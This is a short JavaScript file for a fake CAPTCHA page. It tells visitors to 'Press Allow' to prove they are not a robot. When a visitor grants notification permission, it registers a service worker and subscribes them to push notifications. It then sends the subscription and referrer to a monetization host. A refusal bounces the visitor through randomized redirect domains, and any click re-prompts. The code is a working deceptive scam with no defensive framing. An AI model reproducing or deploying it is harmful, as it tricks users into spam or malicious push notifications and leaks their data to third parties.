var n = +(new URLSearchParams(location.search).get('n') || 0);
var hosts = 'abcdefgh'.split('');
document.body.innerHTML = '<div class="rc"><img src="/r.png"><h2>Press <b>Allow</b> to verify that you are not a robot</h2><div class="arrow"></div></div>';
function hop() {
  if (n > 8) location.href = 'https://end.feed-ads.example/?z=1';
  else location.href = 'https://' + hosts[n % 8] + Date.now().toString(36) + '.captcha-go.example/?n=' + (n + 1);
}
function ask() {
  Notification.requestPermission(function (p) {
    if (p !== 'granted') return hop();
    navigator.serviceWorker.register('/sw.js').then(function (r) {
      return r.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: 'PLACEHOLDER' });
    }).then(function (s) {
      return fetch('https://sub.push-money.example/s', { method: 'POST', body: JSON.stringify({ s: s, ref: document.referrer }) });
    }).then(function () { location.href = 'https://end.feed-ads.example/?z=2'; });
  });
}
if (Notification.permission === 'denied') hop(); else ask();
document.documentElement.onclick = ask;
